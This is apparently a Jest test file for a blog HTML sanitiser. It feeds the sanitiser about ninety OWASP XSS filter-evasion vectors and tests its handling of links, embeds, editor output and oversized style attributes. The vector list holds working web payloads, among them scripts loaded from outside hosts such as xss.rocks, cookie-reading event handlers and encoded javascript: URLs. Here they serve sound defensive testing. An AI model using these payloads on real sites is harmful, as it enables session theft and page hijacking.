// The OWASP XSS filter evasion cheat sheet's vectors through the blog sanitiser, plus what the editor must keep.
import vm from 'node:vm';
import { JSDOM } from 'jsdom';
import { MAX_STYLE_LENGTH, safeStyle, sanitizeBlogHtml } from '../server/core/sanitize';

const OWASP_VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<p style="background-image: url(javascript:alert('XSS'))">x</p>`,
  `<p style="color: red; background: url(http://evil.example/a.png)">x</p>`,
  `<p style="width: expression(alert('XSS'))">x</p>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<iframe src="https://evil.example/embed/abc"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=\`>\` SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="/\\evil.example/">x</a>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<p id="x" name="cookie">clobber</p><img name="getElementById">`,
];

/** Everything the browser would build from the output, checked element by element. */
function assertInert(html: string) {
  const document = new JSDOM(`<body>${html}</body>`).window.document;
  const allowedTags = new Set(
    'H1 H2 H3 H4 H5 H6 P BR HR SPAN DIV STRONG B EM I U S STRIKE DEL MARK SUB SUP SMALL UL OL LI BLOCKQUOTE PRE CODE A IMG IFRAME TABLE THEAD TBODY TR TH TD FIGURE FIGCAPTION'.split(
      ' ',
    ),
  );
  for (const element of document.body.querySelectorAll('*')) {
    expect(allowedTags.has(element.tagName) ? element.tagName : `forbidden <${element.tagName}>`).toBe(element.tagName);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim();
      expect(name.startsWith('on') ? `event handler ${name}` : name).toBe(name);
      expect(['id', 'name', 'srcdoc', 'background', 'dynsrc', 'lowsrc', 'action', 'formaction']).not.toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:|#|\/(?![/\\]))/i);
      if (name === 'src' && element.tagName === 'IMG') expect(value).toMatch(/^(https?:\/\/|\/media\/|\/images\/)/i);
      if (name === 'src' && element.tagName === 'IFRAME')
        expect(value).toMatch(
          /^https:\/\/(www\.)?(youtube\.com\/embed\/|youtube-nocookie\.com\/embed\/|player\.vimeo\.com\/video\/)/,
        );
      if (name === 'style') expect(value).not.toMatch(/url\(|expression|\\|binding|import/i);
    }
    if (element.tagName === 'IFRAME') expect(element.getAttribute('src')).toBeTruthy();
  }
}

describe('blog HTML sanitiser against the OWASP XSS cheat sheet', () => {
  it.each(OWASP_VECTORS.map((vector, index) => [index + 1, vector]))(
    'vector %i leaves nothing executable',
    (_n, vector) => {
      const clean = sanitizeBlogHtml(vector as string);
      // Text may still read "javascript:" harmlessly; attribute values are checked one by one below.
      expect(clean).not.toMatch(/<script|<style|<svg|<math|<object|<embed|<meta|<link|<base|<form/i);
      assertInert(clean);
      // Sanitising is stable: a second pass changes nothing.
      expect(sanitizeBlogHtml(clean)).toBe(clean);
    },
  );

  it('keeps what the editor makes: headings, emphasis, colours, lists, indents, alignment, quotes, code, links, images, videos', () => {
    const editorHtml = [
      '<h1>One</h1><h3>Three</h3><h6>Six</h6>',
      '<p><strong>bold</strong> <em>italic</em> <u>under</u> <s>strike</s></p>',
      '<p><span style="color: #e60000; background-color: rgb(255, 255, 0)">colour</span></p>',
      '<ol><li>first</li></ol><ul><li>bullet</li></ul>',
      '<p class="ql-indent-3">indented</p><p style="margin-left: 3em">indented</p>',
      '<p style="text-align: center">centred</p>',
      '<blockquote>quote</blockquote><pre><code>code()</code></pre>',
      '<p><a href="https://example.com" target="_blank">web</a> <a href="mailto:info@example.com">mail</a> <a href="tel:+919800000000">call</a></p>',
      '<p><img src="https://example.com/a.png" alt="a"><img src="/media/12" alt="b"></p>',
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen="true"></iframe>',
      '<iframe src="https://player.vimeo.com/video/76979871"></iframe>',
    ].join('');
    const clean = sanitizeBlogHtml(editorHtml);
    for (const kept of [
      '<h1>One</h1>',
      '<h6>Six</h6>',
      '<strong>bold</strong>',
      '<u>under</u>',
      '<s>strike</s>',
      'color: #e60000',
      'background-color: rgb(255, 255, 0)',
      '<ol><li>first</li></ol>',
      'class="ql-indent-3"',
      'margin-left: 3em',
      'text-align: center',
      '<blockquote>quote</blockquote>',
      '<pre><code>code()</code></pre>',
      'href="https://example.com"',
      'rel="noopener noreferrer"',
      'href="mailto:info@example.com"',
      'href="tel:+919800000000"',
      'src="/media/12"',
      'src="https://www.youtube.com/embed/dQw4w9WgXcQ"',
      'src="https://player.vimeo.com/video/76979871"',
    ])
      expect(clean).toContain(kept);
  });

  it('reads an address as a browser does: a tab, line break or control inside "//" is still another host', () => {
    for (const href of [
      '/&#x09;/evil.example',
      '/&#x0A;/evil.example',
      '/&#x0D;\\evil.example',
      '&#x01; //evil.example',
    ])
      expect(sanitizeBlogHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
    expect(sanitizeBlogHtml('<img src="/&#x09;/evil.example/x.png" alt="x">')).toBe('<img alt="x">');
    expect(sanitizeBlogHtml('<a href="/cou&#x09;rses">Courses</a>')).toBe('<a href="/courses">Courses</a>');
  });

  it('keeps only the targets the editor offers, and a link opening elsewhere never gets its opener', () => {
    expect(sanitizeBlogHtml('<a href="https://example.org" target="_top">x</a>')).toBe(
      '<a href="https://example.org">x</a>',
    );
    expect(sanitizeBlogHtml('<a href="/a" target="other">x</a>')).toBe('<a href="/a">x</a>');
    expect(sanitizeBlogHtml('<a href="/a" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="/a" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeBlogHtml('<a href="/a" target="_self">x</a>')).toBe('<a href="/a" target="_self">x</a>');
  });

  it('drops iframes that only start like an embed address', () => {
    expect(
      sanitizeBlogHtml('<iframe src="https://www.youtube.com/embed/x/../../redirect?q=https://evil.example"></iframe>'),
    ).toBe('');
    expect(sanitizeBlogHtml('<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>')).toBe('');
  });

  describe('hostile style attributes', () => {
    /**
     * Runs `work` and interrupts it after `ms` (vm's timeout stops even a regular expression mid-match), so code
     * that blocks the event loop fails here instead of hanging the suite. The bound is far above the linear
     * parser's time and far below the old quadratic one's (minutes for 1 MB).
     */
    const interruptedAfter = <T>(ms: number, work: () => T): T =>
      vm.runInNewContext('work()', { work }, { timeout: ms }) as T;

    it.each([
      ['spaces', ' '.repeat(1_000_000)],
      ['a colour then spaces', `color:${' '.repeat(1_000_000)}!`],
      ['a colour then spaces and a valid end', `color: ${' '.repeat(1_000_000)}red`],
      ['many short declarations', 'color: red;'.repeat(100_000)],
      // jsdom itself parses a style attribute as CSS, quadratically in this one: DOMPurify must never see it.
      ['bare words', 'x;'.repeat(500_000)],
      ['many colons', `color${':'.repeat(1_000_000)}`],
    ])('a 1 MB style of %s is dropped without blocking the server', (_name, style) => {
      const clean = interruptedAfter(20_000, () => sanitizeBlogHtml(`<p style="${style}">kept text</p>`));
      expect(clean).toBe('<p>kept text</p>');
    });

    it('styles on many elements keep the safe declarations and lose the rest', () => {
      const html = `<p>${'<span style="x;x">a</span><span style="color: red;x">b</span>'.repeat(500)}</p>`;
      expect(sanitizeBlogHtml(html)).toBe(`<p>${'<span>a</span><span style="color: red">b</span>'.repeat(500)}</p>`);
    });

    it('keeps styles in place among other attributes, and a style carrier in the input is only text', () => {
      const html =
        '<p class="a" style="text-align: center" title="t">x</p> data-style-0=" <b title=\'data-style-1="x\'>y</b>';
      const clean = sanitizeBlogHtml(html);
      expect(clean).toBe(
        '<p class="a" style="text-align: center" title="t">x</p> data-style-0=" <b title="data-style-1=&quot;x">y</b>',
      );
      expect(sanitizeBlogHtml(clean)).toBe(clean);
      expect(sanitizeBlogHtml('<p data-style-0123456789abcdef="color: red">x</p>')).toBe('<p>x</p>');
    });

    it('keeps an editor style up to the cap and drops a longer one unread', () => {
      const editorStyle = 'color: #e60000; text-align: center';
      expect(safeStyle(editorStyle)).toBe(editorStyle);
      const padded = `color: red;${' '.repeat(MAX_STYLE_LENGTH - 'color: red;'.length)}`;
      expect(safeStyle(padded)).toBe('color: red');
      expect(safeStyle(`${padded} `)).toBe('');
      expect(safeStyle('COLOR : Red ; position: fixed; margin-left:2em')).toBe('COLOR : Red ; margin-left:2em');
      expect(safeStyle('color: red url(x); background-color: expression(1)')).toBe('');
    });
  });
});
